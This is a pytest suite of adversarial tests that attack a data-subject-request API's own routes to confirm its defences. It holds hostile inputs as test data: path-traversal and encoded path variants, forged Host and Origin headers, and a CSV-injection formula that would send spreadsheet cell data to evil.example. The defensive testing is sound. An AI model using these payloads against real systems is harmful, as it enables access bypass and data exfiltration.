"""Adversarial: the HTTP API attacked from outside and with a token of the wrong role.

Routes are taken from the app's own table, so a route added later is attacked too. Each test
asserts what a vulnerable app would get wrong: a browser's simple cross-site POST reaching a
route, two Content-Type headers read differently by the gate and the app, a method override
honoured, HEAD/OPTIONS or a path variant answering where GET would have asked for a token, a
token accepted from the query string, guesses spread over one IPv6 network not counted, input
or a token echoed in an error, the codec reachable on the public app.

Unit tier: in-process TestClient on a temporary SQLite runtime, Temporal unreachable.
"""

from __future__ import annotations

import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import structlog.testing
from fastapi.routing import APIRoute, iter_route_contexts
from fastapi.testclient import TestClient

from dsrflow.api.app import PREFIX
from dsrflow.api.hardening import is_page
from tests.unit.api_kit import (
    SUBJECT_EMAIL,
    SUBJECT_NAME,
    api_runtime,
    auth,
    client,
    finished_request,
    one_line_error,
    token,
)
from tests.unit.privacy_kit import center, csrf_of

pytestmark = pytest.mark.unit  # in-process only: the tier guard refuses any subprocess

RID = "dsr-doors"
NEEDLE = "zqneedle.canary+77@example.org"
PATH_VALUES = {"request_id": RID, "store": "shop", "subject_request_id": "srid-1"}


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    rt = api_runtime(tmp_path_factory.mktemp("doors"))
    finished_request(rt, RID)
    app = rt.api_app()
    roles = ("admin", "analyst", "auditor", "engineer", "controller", "intake")
    yield {"rt": rt, "app": app, "tokens": {r: token(rt, r) for r in roles}}
    rt.ledger.close()


def routes(app: Any) -> list[tuple[str, str]]:
    """(method, concrete path) of every API and OpenDSR route (pages have their own suites)."""
    out = []
    for ctx in iter_route_contexts(app.routes):
        if is_page(ctx.path) or not isinstance(ctx.original_route, APIRoute):
            continue
        path = ctx.path
        for name, value in PATH_VALUES.items():
            path = path.replace(f"{{{name}}}", value)
        out += [(m, path) for m in sorted(ctx.methods)]
    return out


def web(world: dict[str, Any], **kwargs: Any) -> TestClient:
    return client(world["rt"], world["app"], follow_redirects=False, **kwargs)


def test_the_route_table_is_what_is_attacked(world) -> None:
    found = routes(world["app"])
    assert len(found) >= 25
    assert ("GET", f"{PREFIX}/requests/{RID}/package") in found


# --- content types --------------------------------------------------------------------------

SIMPLE = [  # what a cross-site <form> or a no-preflight fetch can send
    ("application/x-www-form-urlencoded", b"a=1"),
    ("multipart/form-data; boundary=x", b"--x--\r\n"),
    ("text/plain", b'{"type": "access"}'),
    (None, b'{"type": "access"}'),
]


def test_no_cross_site_simple_post_reaches_any_body_route(world) -> None:
    c = web(world)
    admin = auth(world["tokens"]["admin"])
    before = len(world["rt"].ledger.audit_entries())
    wrong = []
    for method, path in routes(world["app"]):
        if method not in ("POST", "PUT", "PATCH"):
            continue
        for ctype, body in SIMPLE:
            headers = {**admin, **({"content-type": ctype} if ctype else {})}
            got = c.request(method, path, content=body, headers=headers)
            if got.status_code != 415:
                wrong.append(f"{method} {path} as {ctype}: {got.status_code}")
    assert not wrong, "\n".join(wrong)
    assert len(world["rt"].ledger.audit_entries()) == before  # nothing was done


@pytest.mark.parametrize(
    "first,second",
    [("text/plain", "application/json"), ("application/json", "text/plain")],
)
def test_two_content_types_are_refused_whatever_the_order(world, first: str, second: str) -> None:
    c = web(world)
    headers = [*auth(world["tokens"]["admin"]).items(), ("content-type", first),
               ("content-type", second)]  # fmt: skip
    got = c.post(f"{PREFIX}/audit/verify", content=b"{}", headers=headers)
    assert got.status_code == 415 and "one Content-Type" in one_line_error(got)


def test_a_multipart_form_cannot_be_smuggled_to_a_page_behind_a_second_content_type(
    tmp_path: Path,
) -> None:
    """The gate read the last Content-Type (urlencoded: allowed on pages), Starlette's form
    parser the first (multipart): the multipart parser ran where only urlencoded is allowed."""
    _, fake, page = center(tmp_path)
    csrf = csrf_of(page.get("/privacy/request/access").text)
    b = "XyZ"
    body = (
        f'--{b}\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n{csrf}\r\n'
        f'--{b}\r\nContent-Disposition: form-data; name="email"\r\n\r\nmp@example.org\r\n'
        f"--{b}--\r\n"
    )
    headers = [("content-type", f"multipart/form-data; boundary={b}"),
               ("content-type", "application/x-www-form-urlencoded")]  # fmt: skip
    got = page.post("/privacy/request/access", content=body, headers=headers)
    assert got.status_code == 415 and not fake.submitted


# --- methods --------------------------------------------------------------------------------

OVERRIDES = ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override")


def test_method_override_headers_and_parameters_are_ignored(world) -> None:
    c = web(world)
    admin = auth(world["tokens"]["admin"])
    for header in OVERRIDES:
        # A POST dressed as GET does not read; a GET dressed as POST/DELETE does not act.
        dressed = c.post(f"{PREFIX}/metrics", json={}, headers={**admin, header: "GET"})
        assert dressed.status_code == 405, header
        listed = c.get(f"{PREFIX}/requests", headers={**admin, header: "DELETE"})
        assert listed.status_code == 200 and isinstance(listed.json(), list)
    via_query = c.post(f"{PREFIX}/metrics?_method=GET", json={}, headers=admin)
    assert via_query.status_code in (400, 405)


def test_head_and_options_never_answer_for_a_protected_route(world) -> None:
    c = web(world)
    cross = {"Origin": "https://evil.example", "Access-Control-Request-Method": "GET",
             "Access-Control-Request-Headers": "authorization"}  # fmt: skip
    for _, path in routes(world["app"]):
        for method, headers in (("HEAD", {}), ("OPTIONS", cross)):
            got = c.request(method, path, headers=headers)
            assert got.status_code >= 400, (method, path, got.status_code)
            assert "access-control-allow-origin" not in got.headers, (method, path)
    # With a token too: HEAD is not a way to a download without GET's audit entry.
    auditor = auth(world["tokens"]["auditor"])
    assert c.head(f"{PREFIX}/requests/{RID}/package", headers=auditor).status_code >= 400


# --- paths ----------------------------------------------------------------------------------


def _variants(path: str) -> list[str]:
    head, _, last = path.rpartition("/")
    return [
        path + "/", path.upper(), path.replace("/api/", "/API/"), path.replace("/", "//", 2),
        f"{head}/%2e%2e/{head.rsplit('/', 1)[1]}/{last}", f"{head}%2F{last}",
        f"{path};x=1", f"{path}%00", f"{path}%20", f"{head}/./{last}",
        f"/privacy/..{path}", f"/privacy/%2e%2e{path}",
    ]  # fmt: skip


def test_path_variants_of_protected_routes_never_answer_without_a_token(world) -> None:
    c = web(world)
    wrong = []
    for method, path in routes(world["app"]):
        if path.startswith("/opendsr/discovery") or path.endswith("processor-cert.pem"):
            continue  # public by design
        for variant in _variants(path):
            got = c.request(method, variant, headers={"content-type": "application/json"})
            if got.status_code < 300 or got.status_code == 308:
                wrong.append(f"{method} {variant}: {got.status_code}")
            if got.status_code == 307:  # a trailing-slash hop stays on this server
                assert got.headers["location"].startswith("/"), variant
    assert not wrong, "\n".join(wrong)


def test_path_variants_do_not_hand_an_auditor_subject_data(world) -> None:
    c = web(world, headers=auth(world["tokens"]["auditor"]))
    for path in (f"{PREFIX}/requests/{RID}/package", f"{PREFIX}/requests/{RID}/opening"):
        for variant in [path, *_variants(path)]:
            got = c.get(variant)
            assert got.status_code != 200, variant
            assert SUBJECT_EMAIL.encode() not in got.content
            assert SUBJECT_NAME.encode() not in got.content


def test_a_trailing_slash_redirect_ignores_the_clients_host(world) -> None:
    c = web(world)
    for headers in ({"Host": "evil.example"}, {"Host": "evil.example:443"}):
        moved = c.get(f"{PREFIX}/metrics/", headers=headers)
        assert moved.status_code == 307 and moved.headers["location"] == f"{PREFIX}/metrics"


# --- tokens ---------------------------------------------------------------------------------


@pytest.mark.parametrize("param", ["access_token", "token", "api_key", "bearer"])
def test_a_token_in_the_query_string_is_not_a_sign_in(world, param: str) -> None:
    tok = world["tokens"]["admin"]
    got = web(world).get(f"{PREFIX}/metrics?{param}={tok}")
    assert got.status_code in (400, 401) and tok not in got.text


def test_a_token_in_a_cookie_is_not_a_sign_in(world) -> None:
    tok = world["tokens"]["admin"]
    c = web(world, cookies={"token": tok, "Authorization": f"Bearer {tok}"})
    assert c.get(f"{PREFIX}/metrics").status_code == 401


def test_the_admin_role_does_not_pose_as_an_opendsr_controller(world) -> None:
    c = web(world, headers=auth(world["tokens"]["admin"]))
    for method, path in routes(world["app"]):
        if path.startswith("/opendsr/") and "discovery" not in path and "cert" not in path:
            got = c.request(method, path, json={}) if method == "POST" else c.request(method, path)
            assert got.status_code in (400, 403), (method, path, got.status_code)


def test_a_controller_token_reaches_no_staff_route(world) -> None:
    c = web(world, headers=auth(world["tokens"]["controller"]))
    for method, path in routes(world["app"]):
        if path.startswith(PREFIX + "/") and not path.endswith("openapi.json"):
            got = c.request(method, path, json={}) if method == "POST" else c.request(method, path)
            # 400: an empty body fails validation before anyone is asked who they are
            allowed = (400, 403) if method == "POST" else (403,)
            assert got.status_code in allowed, (method, path, got.status_code)


def test_guessing_tokens_from_one_ipv6_network_is_one_guesser(tmp_path: Path) -> None:
    rt = api_runtime(tmp_path, DSRFLOW_API_AUTH_FAILURES="3")
    app = rt.api_app()
    codes = []
    for i in range(5):
        guesser = client(rt, app, client=(f"2001:db8:77:1:{i:x}::1", 40000))
        bad = f"dsr_{i:012x}_{'x' * 32}"  # a different token id each time
        codes.append(guesser.get(f"{PREFIX}/metrics", headers=auth(bad)).status_code)
    assert codes == [401, 401, 401, 429, 429]
    other = client(rt, app, client=("2001:db8:77:2::1", 40000))
    assert (
        other.get(f"{PREFIX}/metrics", headers=auth("dsr_ffffffffffff_" + "y" * 32)).status_code
        == 401
    )
    rt.ledger.close()


def test_a_presented_token_is_echoed_nowhere(world) -> None:
    secret = "S3cretCanaryValue" * 2
    presented = [f"dsr_0123456789ab_{secret}", f"{secret}", f"dsr_{secret}"]
    with structlog.testing.capture_logs() as logs:
        answers = [web(world).get(f"{PREFIX}/metrics", headers=auth(p)) for p in presented]
    for got in answers:
        assert got.status_code == 401 and secret not in got.text
        assert secret not in str(got.headers)
    assert secret not in str(logs)


# --- input, errors and sizes ----------------------------------------------------------------


def test_a_huge_query_string_is_a_short_error_without_the_value(world) -> None:
    c = web(world, headers=auth(world["tokens"]["admin"]))
    huge = [
        f"{PREFIX}/requests?status={NEEDLE * 1500}",
        f"{PREFIX}/requests?{'&'.join(f'{NEEDLE}{i}=1' for i in range(1500))}",
        f"{PREFIX}/requests?subject=email={NEEDLE * 1500}",
        f"{PREFIX}/requests?limit={'9' * 50000}",
    ]
    for url in huge:
        got = c.get(url)
        assert got.status_code == 400, got.status_code
        message = one_line_error(got)
        assert NEEDLE not in message and len(message) < 400


def test_errors_never_echo_what_was_sent(world) -> None:
    c = web(world, headers=auth(world["tokens"]["admin"]))
    answers = [
        c.get(f"{PREFIX}/{NEEDLE}"),
        c.post(f"{PREFIX}/requests", json={"type": NEEDLE, "email": [NEEDLE]}),
        c.post(f"{PREFIX}/requests", json={"type": "access", "email": [NEEDLE], NEEDLE: 1}),
        c.post(
            f"{PREFIX}/requests",
            content=b'{"type": "' + NEEDLE.encode() + b'"',
            headers={"content-type": "application/json"},
        ),
        c.post(f"{PREFIX}/requests/{RID}/deny", json={"reason": NEEDLE + "\x00"}),
        # An address typed where an identity kind or a field name belongs: keys are not echoed.
        c.post(f"{PREFIX}/batches", json={"members": [{NEEDLE: "x"}]}),
        c.post(f"{PREFIX}/batches", json={"members": [{"email": "a@example.org"}], NEEDLE: 1}),
        c.post(f"{PREFIX}/requests", json={NEEDLE: 1}),
    ]
    for got in answers:
        assert got.status_code >= 400
        assert NEEDLE not in got.text, (got.request.url.path[:60], got.text[:200])
        assert "Traceback" not in got.text and not re.search(r'File "[^"]+", line', got.text)


def test_an_address_pasted_as_a_request_id_is_not_echoed(world) -> None:
    c = web(world, headers=auth(world["tokens"]["admin"]))
    for path in (f"{PREFIX}/requests/{NEEDLE}", f"{PREFIX}/requests/{NEEDLE}/package"):
        got = c.get(path)
        assert got.status_code == 400 and NEEDLE not in got.text


def test_the_codec_server_is_not_on_the_public_app(world) -> None:
    c = web(world, headers=auth(world["tokens"]["admin"]))
    body = {"payloads": [{"metadata": {"encoding": "YmluYXJ5L2VuY3J5cHRlZA=="}, "data": ""}]}
    for path in ("/decode", "/codec/decode", f"{PREFIX}/codec/decode", "/encode", "/api/decode"):
        got = c.post(path, json=body, headers={"X-Namespace": "default"})
        assert got.status_code in (404, 405), (path, got.status_code)


def test_every_answer_of_the_api_is_json_or_a_file_never_html(world) -> None:
    """Content sniffing and reflected markup: nothing under the API answers text/html."""
    c = web(world, headers=auth(world["tokens"]["analyst"]))
    for method, path in routes(world["app"]):
        got = c.request(method, path, json={}) if method == "POST" else c.request(method, path)
        assert got.headers.get("x-content-type-options") == "nosniff"
        if "html" in got.headers.get("content-type", ""):
            # Only the printable certificate, as a download, under the API's no-script CSP.
            assert path.endswith("/certificate"), (method, path)
            assert got.headers["content-disposition"].startswith("attachment")
            assert got.headers["content-security-policy"].startswith("default-src 'none'")


def test_the_audit_csv_starts_no_cell_with_a_formula(world) -> None:
    """CSV injection: an insider's free text (a reason typed into a decision or a reveal) lands
    in the audit export an auditor opens in a spreadsheet; a cell starting with = + - @ would
    run as a formula. The entry is written as a use case writes one (``AuditTrail.record``)."""
    import csv

    from dsrflow.service.audit import AuditTrail
    from dsrflow.service.categories import Category
    from dsrflow.service.principal import Principal

    rt = world["rt"]
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    analyst = Principal.of("staff:mallory", ["analyst"])
    AuditTrail(rt.ledger).record(analyst, "reveal", Category.DECODE, RID, reason=formula)
    got = web(world, headers=auth(world["tokens"]["auditor"])).get(
        f"{PREFIX}/audit/export?format=csv"
    )
    assert got.status_code == 200 and "HYPERLINK" in got.text
    for row in csv.reader(io.StringIO(got.text)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
